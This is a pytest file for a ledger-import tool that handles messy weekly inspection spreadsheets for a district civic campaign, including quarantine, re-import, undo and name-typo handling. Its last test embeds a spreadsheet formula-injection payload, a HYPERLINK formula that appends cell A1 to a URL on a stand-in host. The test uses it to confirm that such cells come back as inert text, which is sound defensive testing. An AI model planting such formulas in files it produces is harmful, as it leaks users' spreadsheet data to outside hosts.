"""Importing ledgers: skipped, repeated and bad rows; identity of problems; later exports; the log."""
from datetime import date
from types import SimpleNamespace

import pytest

from campaign.ingest import import_file, names, undo_import
from tests.ingest.conftest import LEDGER_HEADER, ledger_row, write_csv, write_xlsx

D = date


def rows_of(con, sql: str, params=None) -> list[SimpleNamespace]:
    cur = con.execute(sql, params or [])
    cols = [d[0] for d in cur.description]
    return [SimpleNamespace(**dict(zip(cols, r))) for r in cur.fetchall()]


def problem(con, pid: str) -> SimpleNamespace:
    found = rows_of(con, "SELECT * FROM problems WHERE problem_id = ?", [pid])
    assert len(found) == 1, pid
    return found[0]


def snapshot(con) -> dict:
    tables = ("store.problems", "store.inspections", "store.sites", "store.streets", "store.departments",
              "store.assessment_rounds", "store.assessment_scores", "store.survey_rates", "store.peer_scores")
    return {t: sorted(map(repr, con.execute("SELECT * FROM " + t).fetchall())) for t in tables}


@pytest.fixture()
def messy(tmp_path, base_rows):
    """The base ledger as a busy office sends it: blank, total, note and repeated rows, bad cells."""
    rows = [list(r) for r in base_rows]
    rows[1][2] = "2025/3/10"                      # DC002: another way to write the date
    rows[2][9] = "扣0.5分"                          # DC003
    rows[3][9] = -1                                 # DC004: deductions written negative
    rows[4][10] = "黄牌"                            # DC005
    rows[5][2] = "2025年3月12日"                     # DC006
    rows[6][2] = 45728                              # DC007: an Excel serial number typed as a number (2025-03-12)
    rows[7][9] = "０．５"                           # DC008: full-width digits
    rows[8][12] = "正在整改"                         # DC009
    body = rows[:4] + [[None] * 14] + rows[4:8] + [list(rows[3])] + rows[8:] + [
        ledger_row(13, "DC013", "2025-13-01", "人民路农贸市场", "北关街道", "区市场监督管理局", "环境卫生", "日期写错"),
        ledger_row(14, "DC014", D(2025, 3, 14), "人民路农贸市场", "北关街道", "区市场监督管理局", "环境卫生", "扣分写错",
                   deduction="严重"),
        ledger_row(15, "DC015", D(2025, 3, 14), None, "北关街道", "区市场监督管理局", "环境卫生", "缺点位"),
        ledger_row(16, "DC016", D(2025, 3, 14), "解放路3巷", "北关街道", "区城市管理局", "环境卫生", "卡写错", card="蓝"),
        ["合计", None, None, None, None, None, None, None, None, 6.5, None, None, None, None],
        ["注：本表由区创城办汇总", None, None, None, None, None, None, None, None, None, None, None, None, None],
    ]
    return write_xlsx(tmp_path / "第12周督查问题清单.xlsx", LEDGER_HEADER, body, title="临江区创城第12周督查问题清单")


def test_messy_ledger(con, messy):
    res = import_file(con, messy, imported_by="王科员")
    assert res.refused is None
    assert (res.accepted, res.duplicates, res.quarantined) == (13, 1, 3)  # DC015 has no site: it lands, siteless
    assert res.skipped == 3 and res.skipped_detail == {"空行": 1, "合计行": 1, "说明行": 1}
    assert res.rows_read == 20
    q = res.quarantine
    assert q.columns.tolist() == ["工作表", "行号", "列", "原值", "原因"]
    # rows as the spreadsheet numbers them: title row 1, header row 2, data from row 3; the blank row is 7
    got = {(int(r.行号), r.列, r.原因) for r in q.itertuples()}
    assert got == {(17, "发现日期", "不是有效日期"), (18, "扣分", "无法识别的扣分"), (20, "督办卡", "无法识别的督办卡")}
    assert q.loc[q["列"].eq("发现日期"), "原值"].item() == "2025-13-01"
    # none of a quarantined row is imported
    assert not rows_of(con, "SELECT * FROM problems WHERE problem_id IN ('DC013', 'DC014', 'DC016')")
    # a problem without a site counts for its street, but is no site and no site visit
    assert (problem(con, "DC015").site, problem(con, "DC015").site_id, problem(con, "DC015").street) == \
        (None, None, "北关街道")
    assert problem(con, "DC015").inspection_id is None
    assert problem(con, "DC002").found_on == D(2025, 3, 10)
    assert problem(con, "DC003").deduction == 0.5 and problem(con, "DC004").deduction == 1.0
    assert problem(con, "DC005").card == "黄" and problem(con, "DC008").deduction == 0.5
    assert problem(con, "DC007").found_on == D(2025, 3, 12) and problem(con, "DC006").found_on == D(2025, 3, 12)
    assert problem(con, "DC009").status == "整改中"
    log = rows_of(con, "SELECT * FROM import_log")
    assert len(log) == 1 and log[0].file_name == "第12周督查问题清单.xlsx" and log[0].imported_by == "王科员"
    assert (log[0].accepted, log[0].duplicates, log[0].quarantined, log[0].skipped) == (13, 1, 3, 3)
    assert len(log[0].file_hash) == 64 and log[0].imported_at is not None
    kept = rows_of(con, "SELECT * FROM store.import_quarantine WHERE import_id = ?", [res.import_id])
    assert len(kept) == 3 and {k.reason for k in kept} >= {"无法识别的督办卡"}


def test_quarantined_rows_come_back_as_an_excel_to_fix(con, messy):
    import io

    from python_calamine import CalamineWorkbook

    from campaign.ingest.report import quarantine_excel

    res = import_file(con, messy)
    wb = CalamineWorkbook.from_filelike(io.BytesIO(quarantine_excel([res])))
    assert wb.sheet_names == ["隔离清单", "原始行-Sheet1"]
    listing = wb.get_sheet_by_name("隔离清单").to_python()
    assert listing[0] == ["文件", "工作表", "行号", "列", "原值", "原因"] and len(listing) == 4
    original = wb.get_sheet_by_name("原始行-Sheet1").to_python()
    assert original[0][:4] == ["原行号", "隔离原因", "序号", "问题编号"]
    assert [r[3] for r in original[1:]] == ["DC013", "DC014", "DC016"]


def test_reimporting_the_same_file_adds_nothing(con, messy):
    first = import_file(con, messy)
    before = snapshot(con)
    again = import_file(con, messy)
    assert (again.accepted, again.updated, again.unchanged) == (0, 0, 13)
    assert again.import_id is None and again.previous_import == first.import_id
    assert any("导入过" in n for n in again.notes)
    assert snapshot(con) == before
    assert con.execute("SELECT count(*) FROM import_log").fetchone()[0] == 1


def test_dry_run_reports_without_writing(con, messy):
    before = snapshot(con)
    res = import_file(con, messy, dry_run=True)
    assert (res.accepted, res.quarantined) == (13, 3)
    assert snapshot(con) == before and con.execute("SELECT count(*) FROM import_log").fetchone()[0] == 0


def test_two_different_problems_at_one_site_on_one_day_stay_two(tmp_path, con):
    header = ["发现日期", "点位名称", "所属街道", "责任单位", "问题类别", "问题描述", "整改状态"]
    rows = [[D(2025, 3, 10), "人民路农贸市场", "北关街道", "区市场监督管理局", "环境卫生", "垃圾桶满溢", "整改中"],
            [D(2025, 3, 10), "人民路农贸市场", "北关街道", "区市场监督管理局", "占道经营", "流动摊贩占道", "整改中"],
            [D(2025, 3, 10), "人民路农贸市场", "北关街道", "区市场监督管理局", "环境卫生", "地面污水", "整改中"],
            # the same text twice but two different owners: two problems, not a repeat
            [D(2025, 3, 10), "人民路农贸市场", "北关街道", "区城市管理局", "环境卫生", "垃圾桶满溢", "整改中"]]
    res = import_file(con, write_xlsx(tmp_path / "无编号.xlsx", header, rows))
    assert (res.accepted, res.duplicates) == (4, 0)
    ids = [r[0] for r in con.execute("SELECT problem_id FROM problems").fetchall()]
    assert len(set(ids)) == 4 and all(i.startswith("H") and len(i) == 16 for i in ids)
    visits = rows_of(con, "SELECT * FROM inspections")
    assert len(visits) == 1 and visits[0].problems_found == 4  # one visit to the market that day


def later_export(base_rows):
    """The same ledger a week later: DC001 closed, DC004 fixed and signed off, DC005 still open; one new problem."""
    rows = [list(r) for r in base_rows]
    rows[0][12], rows[0][13] = "已整改", D(2025, 3, 15)
    rows[3][12], rows[3][13] = "已销号", D(2025, 3, 17)
    rows.append(ledger_row(13, "DC013", D(2025, 3, 19), "人民路农贸市场", "北关街道", "区市场监督管理局", "环境卫生",
                           "垃圾桶满溢"))
    return rows


def test_a_later_export_updates_status_and_closing_date_and_keeps_history(tmp_path, con, base_rows):
    first = import_file(con, write_xlsx(tmp_path / "第12周.xlsx", LEDGER_HEADER, base_rows))
    res = import_file(con, write_xlsx(tmp_path / "第13周.xlsx", LEDGER_HEADER, later_export(base_rows)))
    assert (res.accepted, res.updated, res.unchanged) == (1, 2, 10)
    assert con.execute("SELECT count(*) FROM problems").fetchone()[0] == 13
    p1 = problem(con, "DC001")
    assert (p1.status, p1.closed_on) == ("已整改", D(2025, 3, 15))
    hist = rows_of(con, "SELECT * FROM problem_history WHERE problem_id = 'DC004' ORDER BY is_current")
    assert [(h.status, h.closed_on, h.import_id, h.is_current) for h in hist] == [
        ("整改中", None, first.import_id, False), ("已销号", D(2025, 3, 17), res.import_id, True)]


def test_a_later_export_without_ids_is_matched_by_date_site_category_and_description(tmp_path, con, base_rows):
    header = [h for h in LEDGER_HEADER if h != "问题编号"]
    strip = lambda rows: [r[:1] + r[2:] for r in rows]  # noqa: E731
    import_file(con, write_xlsx(tmp_path / "a.xlsx", header, strip(base_rows)))
    res = import_file(con, write_xlsx(tmp_path / "b.xlsx", header, strip(later_export(base_rows))))
    assert (res.accepted, res.updated, res.unchanged) == (1, 2, 10)
    closed = rows_of(con, "SELECT * FROM problems WHERE status = '已销号'")
    assert len(closed) == 1 and closed[0].description == "楼道内飞线充电"


def test_undo_restores_the_store_as_it_was(tmp_path, con, base_rows):
    import_file(con, write_xlsx(tmp_path / "第12周.xlsx", LEDGER_HEADER, base_rows))
    after_first = snapshot(con)
    second = import_file(con, write_xlsx(tmp_path / "第13周.xlsx", LEDGER_HEADER, later_export(base_rows)))
    out = undo_import(con, second.import_id, "王科员")
    assert (out.removed, out.restored) == (1, 2)
    assert snapshot(con) == after_first
    log = rows_of(con, "SELECT * FROM import_log WHERE import_id = ?", [second.import_id])[0]
    assert log.undone_at is not None and log.undone_by == "王科员"
    assert not rows_of(con, "SELECT * FROM problem_history WHERE import_id = ?", [second.import_id])


def test_undo_of_the_first_import_empties_a_new_store(tmp_path, con, base_rows):
    empty = snapshot(con)
    res = import_file(con, write_xlsx(tmp_path / "第12周.xlsx", LEDGER_HEADER, base_rows))
    assert res.created["街道"] == ["东湖街道", "北关街道", "青山镇"] and len(res.created["点位"]) == 4
    undo_import(con, res.import_id)
    assert snapshot(con) == empty


def test_undo_waits_for_a_later_import_that_changed_the_same_rows(tmp_path, con, base_rows):
    from campaign.ingest import UndoRefused

    first = import_file(con, write_xlsx(tmp_path / "a.xlsx", LEDGER_HEADER, base_rows))
    second = import_file(con, write_xlsx(tmp_path / "b.xlsx", LEDGER_HEADER, later_export(base_rows)))
    before = snapshot(con)
    with pytest.raises(UndoRefused, match=f"请先撤销第 {second.import_id} 次导入"):
        undo_import(con, first.import_id)
    assert snapshot(con) == before
    undo_import(con, second.import_id)
    undo_import(con, first.import_id)
    assert con.execute("SELECT count(*) FROM problems").fetchone()[0] == 0
    with pytest.raises(UndoRefused, match="已于"):
        undo_import(con, first.import_id)


def test_a_failure_midway_leaves_the_store_untouched(tmp_path, con, base_rows, monkeypatch):
    from campaign.ingest import upsert

    before = snapshot(con)

    def broken(*a, **k):
        raise RuntimeError("disk full")

    monkeypatch.setattr(upsert, "add_sites", broken)
    with pytest.raises(RuntimeError):
        import_file(con, write_xlsx(tmp_path / "a.xlsx", LEDGER_HEADER, base_rows))
    assert snapshot(con) == before


def test_street_typos_are_held_for_the_office(tmp_path, con, base_rows):
    import_file(con, write_xlsx(tmp_path / "a.xlsx", LEDGER_HEADER, base_rows))
    rows = [ledger_row(20, "DC020", D(2025, 3, 20), "解放路3巷", "北关街到", "区城市管理局", "环境卫生", "小广告"),
            ledger_row(21, "DC021", D(2025, 3, 20), "东湖花园小区", "东湖街道", "区城管局", "环境卫生", "垃圾满溢"),
            ledger_row(22, "DC022", D(2025, 3, 20), "柳林镇政府门口", "柳林镇", "区城市管理局", "环境卫生", "垃圾满溢")]
    f = write_xlsx(tmp_path / "b.xlsx", LEDGER_HEADER, rows)
    res = import_file(con, f)
    # a short form of exactly one known unit is that unit, said on the check screen; it never waits
    assert res.accepted == 2 and res.created["街道"] == ["柳林镇"]  # a new street unlike any other is fine
    assert "责任单位" not in res.created
    assert [(r["name"], r["canonical"], r["how"]) for r in res.resolved] == [("区城管局", "区城市管理局", "简称")]
    assert problem(con, "DC021").department == "区城市管理局"
    assert {(x.entity, x.name, x.suggestion) for x in res.name_flags} == {("street", "北关街到", "北关街道")}
    assert set(res.quarantine["原因"]) == {"街道「北关街到」不在已知名单中，可能是「北关街道」的笔误"}
    assert not rows_of(con, "SELECT * FROM streets WHERE street = '北关街到'")
    # the office confirms: 北关街到 is 北关街道, and 区城管局 is a unit of its own (its decision beats the dictionary)
    names.save_decisions(con, [("street", "北关街到", "北关街道"), ("department", "区城管局", "区城管局")], "王科员")
    again = import_file(con, f)
    assert (again.accepted, again.updated, again.unchanged, again.quarantined) == (1, 1, 1, 0)
    assert problem(con, "DC020").street == "北关街道" and problem(con, "DC021").department == "区城管局"


def test_corrections_in_the_alias_file_apply(tmp_path, con, base_rows):
    from campaign.ingest import mapping

    import_file(con, write_xlsx(tmp_path / "a.xlsx", LEDGER_HEADER, base_rows))
    raw = mapping.yaml.safe_load(mapping.ALIASES_FILE.read_text(encoding="utf-8"))
    raw["names"]["street"] = {"北关": "北关街道"}
    rows = [ledger_row(20, "DC020", D(2025, 3, 20), "解放路3巷", "北关", "区城市管理局", "环境卫生", "小广告")]
    res = import_file(con, write_xlsx(tmp_path / "b.xlsx", LEDGER_HEADER, rows), aliases=mapping.parse_aliases(raw))
    assert res.accepted == 1 and problem(con, "DC020").street == "北关街道"


def test_dates_without_a_year(tmp_path, con):
    header = ["发现日期", "点位", "街道", "问题描述"]
    rows = [["2025-03-20", "解放路3巷", "北关街道", "小广告"], ["3月12日", "解放路3巷", "北关街道", "垃圾满溢"],
            ["３月１５日", "解放路3巷", "北关街道", "路灯不亮"]]
    res = import_file(con, write_csv(tmp_path / "t.csv", header, rows, encoding="utf-8"))
    assert res.accepted == 3
    assert any("2 个日期没写年份" in n and "2025 年" in n and "文件中其他日期" in n for n in res.notes)
    got = sorted(r[0] for r in con.execute("SELECT found_on FROM problems").fetchall())
    assert got == [D(2025, 3, 12), D(2025, 3, 15), D(2025, 3, 20)]


def test_dates_without_a_year_anywhere_take_it_from_the_title(tmp_path, con):
    header = ["发现日期", "点位", "街道", "问题描述"]
    rows = [["3月12日", "解放路3巷", "北关街道", "垃圾满溢"]]
    res = import_file(con, write_xlsx(tmp_path / "t.xlsx", header, rows, title="2024年第11周督查通报"))
    assert any("2024 年" in n and "表格标题" in n for n in res.notes)
    assert con.execute("SELECT found_on FROM problems").fetchone()[0] == D(2024, 3, 12)


def test_status_and_closing_date_are_made_to_agree(tmp_path, con):
    header = ["发现日期", "点位", "街道", "问题描述", "整改时限", "整改状态", "整改完成日期"]
    rows = [["2025-03-10", "解放路3巷", "北关街道", "有日期未改状态", "3天", "整改中", "2025-03-12"],
            ["2025-03-10", "解放路3巷", "北关街道", "已整改无日期", "立行立改", "已整改", None],
            ["2025-03-10", "解放路3巷", "北关街道", "无状态", None, None, None],
            ["2025-03-18", "解放路3巷", "北关街道", "早于发现", None, "已整改", "2025-03-11"]]
    res = import_file(con, write_csv(tmp_path / "t.csv", header, rows, encoding="utf-8"))
    assert res.accepted == 3 and res.quarantine["原因"].tolist() == ["整改完成日期早于发现日期"]
    got = {r.description: r for r in rows_of(con, "SELECT * FROM problems")}
    assert (got["有日期未改状态"].status, got["有日期未改状态"].deadline) == ("已整改", D(2025, 3, 13))
    # no closing date is invented (it used to be "the latest date in the file": another row's finding)
    assert got["已整改无日期"].closed_on is None and got["已整改无日期"].deadline == D(2025, 3, 10)
    assert (got["已整改无日期"].is_closed, got["已整改无日期"].closed_on_known) == (True, False)
    assert res.unknown_closed_on == 1
    assert got["无状态"].status == "待整改" and got["无状态"].closed_on is None
    assert any("没有整改完成日期" in n for n in res.notes)


def test_a_serial_number_column_is_not_taken_for_problem_ids(tmp_path, con, base_rows):
    header = [h if h != "问题编号" else "编号" for h in LEDGER_HEADER]
    rows = [[r[0], str(r[0])] + r[2:] for r in base_rows]
    res = import_file(con, write_xlsx(tmp_path / "t.xlsx", header, rows))
    assert res.accepted == 12 and any("顺序号" in n for n in res.notes)
    assert all(r[0].startswith("H") for r in con.execute("SELECT problem_id FROM problems").fetchall())


def test_one_id_twice_with_different_content_is_held(tmp_path, con, base_rows):
    rows = [list(r) for r in base_rows]
    rows[5][1] = "DC001"
    res = import_file(con, write_xlsx(tmp_path / "t.xlsx", LEDGER_HEADER, rows))
    assert res.accepted == 11 and res.quarantine["原因"].tolist() == ["与第 2 行问题编号相同，但其他内容不同"]


def test_inspections_follow_the_ledger(tmp_path, con, base_rows):
    import_file(con, write_xlsx(tmp_path / "t.xlsx", LEDGER_HEADER, base_rows))
    visits = rows_of(con, "SELECT * FROM inspections ORDER BY inspected_on, site")
    assert sum(v.problems_found for v in visits) == 12
    assert {(v.inspected_on, v.site, v.problems_found) for v in visits if v.inspected_on == D(2025, 3, 10)} == {
        (D(2025, 3, 10), "人民路农贸市场", 2), (D(2025, 3, 10), "解放路3巷", 1)}
    linked = con.execute("SELECT count(*) FROM problems p JOIN inspections i USING (inspection_id) "
                         "WHERE i.inspected_on = p.found_on AND i.site = p.site").fetchone()[0]
    assert linked == 12


def test_updating_the_demo_ledger_and_undoing_it(demo_db, tmp_path):
    """An export of the demo's open problems, some now closed, updates them in place; undo puts them back."""
    import shutil

    import duckdb

    db = tmp_path / "demo.duckdb"
    shutil.copy(demo_db, db)
    con = duckdb.connect(str(db))
    try:
        open_ = con.execute("""SELECT problem_id, found_on, site, street, department, category, description, status
                               FROM problems WHERE status IN ('待整改', '整改中') ORDER BY problem_id LIMIT 300""").fetchall()
        rows = [[pid, found, site, street, dept, cat, desc, "已整改" if i % 3 == 0 else status,
                 D(2026, 11, 22) if i % 3 == 0 else None] for i, (pid, found, site, street, dept, cat, desc, status)
                in enumerate(open_)]
        header = ["问题编号", "发现日期", "点位名称", "所属街道", "责任单位", "问题类别", "问题描述", "整改状态", "整改完成日期"]
        before = snapshot(con)
        links = "SELECT problem_id, inspection_id FROM problems ORDER BY 1"
        before_links = con.execute(links).fetchall()
        res = import_file(con, write_xlsx(tmp_path / "导出.xlsx", header, rows))
        closing = (len(open_) + 2) // 3
        assert len(open_) > 100
        assert (res.accepted, res.updated, res.unchanged, res.quarantined) == (0, closing, len(open_) - closing, 0)
        assert problem(con, open_[0][0]).status == "已整改" and problem(con, open_[0][0]).closed_on == D(2026, 11, 22)
        # a problem whose date and site did not change stays with its inspection; visit counts do not move
        assert snapshot(con)["store.inspections"] == before["store.inspections"]
        assert con.execute(links).fetchall() == before_links
        undo_import(con, res.import_id)
        assert snapshot(con) == before
    finally:
        con.close()


def test_subtotal_rows_per_street_are_skipped(tmp_path, con):
    header = ["所属街道", "发现日期", "点位", "问题描述", "扣分"]
    rows = [["北关街道", "2025-03-10", "解放路3巷", "小广告", 0.5], ["北关街道", "2025-03-11", "解放路3巷", "垃圾", 0.5],
            ["小计", None, None, None, 1.0], ["东湖街道", "2025-03-10", "东湖花园小区", "飞线充电", 1],
            [None, None, None, None, None], ["小 计：", None, None, None, 1.0], ["总计", None, None, None, 2.0]]
    res = import_file(con, write_xlsx(tmp_path / "分街道.xlsx", header, rows))
    assert (res.accepted, res.quarantined) == (3, 0)
    assert res.skipped_detail == {"合计行": 3, "空行": 1}


def test_quarantined_text_that_looks_like_a_formula_comes_back_as_text(tmp_path, con, base_rows):
    """A cell that starts with = in an uploaded file is returned in the quarantine workbook as text, not as a
    live formula."""
    import io

    from python_calamine import CalamineWorkbook

    from campaign.ingest.report import quarantine_excel

    rows = [list(r) for r in base_rows[:2]]
    rows[0][2] = '=HYPERLINK("http://example.invalid/?x="&A1,"点此查看详情")'  # a bad 发现日期: quarantined
    res = import_file(con, write_xlsx(tmp_path / "f.xlsx", LEDGER_HEADER, rows))
    assert res.quarantined == 1
    data = quarantine_excel([res])
    import zipfile
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    listing = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("隔离清单").to_python()
    assert listing[1][4].startswith("=HYPERLINK")
